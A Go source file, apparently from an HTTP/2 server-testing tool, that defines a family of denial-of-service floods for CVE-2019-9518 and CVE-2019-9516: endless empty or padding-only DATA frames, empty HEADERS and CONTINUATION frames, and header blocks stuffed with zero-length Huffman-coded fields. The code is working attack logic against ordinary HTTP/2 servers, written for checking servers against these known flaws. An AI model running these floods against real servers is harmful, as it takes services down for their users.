// SPDX-License-Identifier: Apache-2.0

package main

import (
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var empties = family{"frames and fields with nothing in them", []attack{
	{
		name: "empty-data", cve: "CVE-2019-9518", about: "sends DATA without a byte that never ends the request",
		open: func(h *hostile) { h.request(settlePath, false) },
		more: flood(func(h *hostile) { h.data(1, false, nil) }),
	},
	{
		name: "padding-data", variant: true, cve: "CVE-2019-9518", about: "sends DATA with nothing but padding",
		open: func(h *hostile) { h.request(settlePath, false) },
		more: flood(func(h *hostile) { must(h.framer.WriteRawFrame(http2.FrameData, http2.FlagDataPadded, 1, []byte{0})) }),
	},
	{
		name: "empty-headers", cve: "CVE-2019-9518", about: "opens streams by HEADERS without a field that never end the request",
		more: flood(func(h *hostile) { h.head(h.stream(), nil, false) }),
	},
	{
		name: "empty-continuation", cve: "CVE-2019-9518", about: "begins a header block and sends CONTINUATIONs without a byte",
		open: func(h *hostile) {
			must(h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: h.requestFields(chargePath)}))
		},
		more: flood(func(h *hostile) { must(h.framer.WriteContinuation(1, false, nil)) }),
	},
	{
		name: "empty-fields", cve: "CVE-2019-9516", about: "sends header lists of fields with neither name nor value, Huffman-coded",
		more: func(h *hostile) bool {
			for !h.full() {
				block := append([]byte(nil), h.requestFields(chargePath)...)
				for range 400 {
					block = append(block, 0x00, 0x80, 0x80) // literal without indexing, two Huffman strings of no length
				}
				h.head(h.stream(), block, false)
			}
			return true
		},
	},
	{
		name: "empty-values", variant: true, cve: "CVE-2019-9516", about: "sends header lists of as many fields without a value as the limit allows, in calls that never end",
		more: func(h *hostile) bool {
			for !h.full() {
				var fields []string
				for range 1500 {
					fields = append(fields, "x", "")
				}
				h.head(h.stream(), h.requestFields(chargePath, fields...), false)
			}
			return true
		},
	},
}}

// huffman returns text in Huffman code behind its length, for lengths below 127.
func huffman(text string) []byte {
	coded := hpack.AppendHuffmanString(nil, text)
	return append([]byte{0x80 | byte(len(coded))}, coded...)
}
